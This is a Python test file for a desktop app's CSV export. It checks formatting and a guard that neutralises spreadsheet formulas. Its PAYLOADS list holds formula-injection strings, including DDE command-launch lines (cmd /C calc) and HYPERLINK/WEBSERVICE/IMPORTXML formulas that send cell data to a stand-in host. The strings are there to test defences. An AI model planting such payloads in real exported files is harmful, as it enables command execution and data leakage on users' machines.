"""CSV: what other programs read back, and what no spreadsheet program will run."""

import csv
import io
import re
import subprocess
from datetime import UTC, date, datetime, time, timedelta, timezone
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smartct_desktop.domain.errors import Cancelled, Invalid
from smartct_desktop.domain.progress import Progress
from smartct_desktop.domain.report import Column, Kind, Table, Words
from smartct_desktop.spreadsheets.cells_out import clean
from smartct_desktop.spreadsheets.csv_out import CsvOut, with_guard, without_guard, write_csv
from tests.spreadsheets.test_writing_office import OFFICE
from tests.spreadsheets.written import table


def content(sheet, **more):
    return b"".join(CsvOut(sheet, Words(), **more).parts(Progress()))


def read(sheet, **more):
    text = content(sheet, **more).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def one(kind, value, **more):
    columns = (Column("Value", kind, **more), Column("Name"))
    _, (cell, _) = read(table(columns, [(value, "x")]))
    return cell


def test_that_the_file_is_marked_as_utf8_and_ends_its_lines_as_the_standard_says():
    sheet = table([Column("Name"), Column("Town")], [("Müller, Süd", 'the "old" one'), (None, "")])

    assert content(sheet) == (
        b'\xef\xbb\xbfName,Town\r\n"M\xc3\xbcller, S\xc3\xbcd","the ""old"" one"\r\n,\r\n'
    )


@pytest.mark.parametrize(
    ("kind", "value", "text"),
    [
        (Kind.TEXT, "two\r\nlines", "two\nlines"),
        (Kind.ID, "a1", "a1"),
        (Kind.WHOLE, 1234567, "1234567"),
        (Kind.WHOLE, -5, "-5"),
        (Kind.WHOLE, 10**20, "1" + "0" * 20),
        (Kind.NUMBER, Decimal("-1234.5"), "-1234.50"),
        (Kind.NUMBER, 2.675, "2.68"),
        (Kind.NUMBER, Decimal("1E+20"), "1" + "0" * 20),
        (Kind.MONEY, 123450, "1234.50"),
        (Kind.MONEY, -5, "-0.05"),
        (Kind.DAY, date(2022, 3, 1), "2022-03-01"),
        (Kind.DAY, date(1871, 3, 12), "1871-03-12"),
        (Kind.DAY, "03/2022", "03/2022"),
        (Kind.TIME, time(9, 5), "09:05"),
        (Kind.TIME, time(9, 5, 7), "09:05:07"),
        (Kind.MOMENT, datetime(2022, 3, 1, 14, 5), "2022-03-01T14:05:00"),
        (Kind.FLAG, True, "yes"),
        (Kind.FLAG, False, "no"),
        (Kind.FLAG, "unknown", "unknown"),
        (Kind.LINK, "https://cluster.example", "https://cluster.example"),
    ],
)
def test_that_values_are_written_for_programs(kind, value, text):
    assert one(kind, value, places=2 if kind is Kind.NUMBER else 0) == text


def test_that_a_moment_of_a_zone_is_told_on_the_clock_here():
    moment = datetime(2022, 3, 1, 12, 0, tzinfo=timezone(timedelta(hours=9)))

    assert datetime.fromisoformat(one(Kind.MOMENT, moment)).astimezone(UTC) == moment


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        (Kind.TEXT, 5),
        (Kind.WHOLE, True),
        (Kind.NUMBER, "5"),
        (Kind.MONEY, 5.0),
        (Kind.DAY, datetime(2022, 3, 1)),
        (Kind.TIME, time(9, tzinfo=UTC)),
        (Kind.MOMENT, "now"),
        (Kind.FLAG, 1),
    ],
)
def test_that_a_value_in_the_wrong_column_is_a_mistake_of_the_report(kind, value):
    with pytest.raises(TypeError, match="'Value', row 2"):
        one(kind, value)


def test_that_what_is_no_number_is_refused():
    with pytest.raises(Invalid, match="the value in row 2 is not a number"):
        one(Kind.NUMBER, float("nan"))


def test_that_a_row_of_another_length_is_a_mistake_of_the_report():
    with pytest.raises(ValueError, match="longer"):
        read(table([Column("A")], [("x", "y")]))


PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?leak="&A1,"click")',
    '=WEBSERVICE("http://x.example")',
    '=IMPORTXML(CONCAT("http://x.example",A2),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200e=1+1",
    "\u2060=1+1",
    "\u00ad=1+1",
    " \u200b =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "|calc",
    "=",
    "+",
    "@",
    "-x",
    "+x",
    "=-1",
    '="x"',
    "+49 30 1234 + A1",
    "-5,00 €+A1",
    "+1(2)",
]
HARMLESS = [
    "Nordwind",
    "1+1",
    "a=1",
    "'quoted'",
    "-",
    " - ",
    "-5",
    "+5",
    "-5,00",
    "-1.234,56 €",
    "+1,234.56",
    "-12 %",
    "- 5",
    "+49 30 12345678",
    "+49 (0)30 123-4567",
    "+359 2 987 65 43",
    "+1 (555) 123-4567",
    "+34.93.123.45.67",
    "2022-03-01",
    "",
    "'",
    "#REF!",
    "<script>",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_that_what_would_run_gets_an_apostrophe(text):
    assert with_guard(text) == f"'{text}"
    assert one(Kind.TEXT, text) == f"'{clean(text)}"


@pytest.mark.parametrize("text", HARMLESS)
def test_that_what_does_not_run_stays_as_it_is(text):
    assert with_guard(text) == text
    assert without_guard(text) == text
    assert one(Kind.TEXT, text) == text


def test_that_there_are_forty_payloads():
    assert len(set(PAYLOADS)) == 40


def test_that_a_heading_is_guarded_as_well():
    assert content(table([Column("=1+1")], [])) == b"\xef\xbb\xbf'=1+1\r\n"


def test_that_the_guard_can_be_left_out():
    assert read(table([Column("A")], [("=1+1",)]), guarded=False) == [["A"], ["=1+1"]]


TEXT = st.text() | st.text(alphabet="'=+-@|\t 1,.(x")


@given(TEXT)
def test_that_taking_the_guard_off_gives_back_the_text(text):
    assert without_guard(with_guard(text)) == text


@given(st.lists(st.tuples(TEXT, st.integers(), st.dates()), max_size=10))
def test_that_everything_can_be_read_back(rows):
    columns = (Column("Text"), Column("Due", Kind.MONEY), Column("Day", Kind.DAY))
    heading, *arrived = read(table(columns, rows))

    assert heading == ["Text", "Due", "Day"]
    assert [
        (without_guard(text), int(euros.replace(".", "")), date.fromisoformat(day))
        for text, euros, day in arrived
    ] == [(clean(text), cents, day) for text, cents, day in rows]


@given(TEXT)
def test_that_no_cell_begins_like_a_formula(text):
    seen = with_guard(clean(text)).lstrip(" \t\n\u00a0")

    assert not seen.startswith(("=", "@", "|", "＝", "＋", "－", "＠"))
    if seen.startswith(("+", "-")):
        assert re.fullmatch(r"[+-][\s\d.,'’()/%€-]*", seen)


def test_that_it_is_written_whole_or_not_at_all(tmp_path):
    path = tmp_path / "r.csv"
    path.write_bytes(b"old")
    columns = (Column("No.", Kind.WHOLE), Column("Text"))
    rows = [(number, "nu\x00ll") for number in range(500)]
    stopped = Progress()
    stopped.cancel()

    with pytest.raises(Cancelled):
        write_csv(CsvOut(table(columns, rows), Words()), path, stopped)
    assert path.read_bytes() == b"old"

    outcome = write_csv(CsvOut(table(columns, rows), Words()), path, Progress())
    assert path.read_text("utf-8-sig").splitlines()[500] == "499,null"
    assert [path.name for path in tmp_path.iterdir()] == ["r.csv"]
    assert outcome.path == path
    assert (outcome.counts[0].sheet, outcome.counts[0].records) == ("Exchanges", 500)
    assert "were taken out (500, the first in row 2)." in outcome.remarks[0]


def test_that_another_delimiter_can_be_chosen():
    sheet = Table("T", (Column("A"), Column("B", Kind.MONEY)), [("x;y", 5)])

    assert content(sheet, delimiter=";") == b'\xef\xbb\xbfA;B\r\n"x;y";0.05\r\n'


def test_that_pieces_are_handed_out_while_rows_are_read():
    rows = ((number,) for number in range(1000))
    parts = CsvOut(Table("T", (Column("No.", Kind.WHOLE),), rows), Words()).parts(Progress())

    assert next(parts) == b"\xef\xbb\xbfNo.\r\n"
    assert next(parts).splitlines()[-1] == b"199"


if OFFICE:

    @pytest.mark.parametrize("guarded", [True, False])
    def test_that_libreoffice_runs_nothing_that_is_guarded(tmp_path, guarded):
        """Opened with all formulas alive; without the guard some of them are."""
        path = tmp_path / "payloads.csv"
        sheet = table([Column("Text")], [(text,) for text in PAYLOADS])
        write_csv(CsvOut(sheet, Words(), guarded=guarded), path, Progress())
        subprocess.run(
            [
                OFFICE,
                f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
                "--headless",
                "--infilter=CSV:44,34,76,1,,0,false,true,false,true,false,0,true",
                "--convert-to",
                "fods",
                "--outdir",
                str(tmp_path / "out"),
                str(path),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )

        shown = (tmp_path / "out" / "payloads.fods").read_text("utf-8")
        assert ("table:formula" in shown) is not guarded
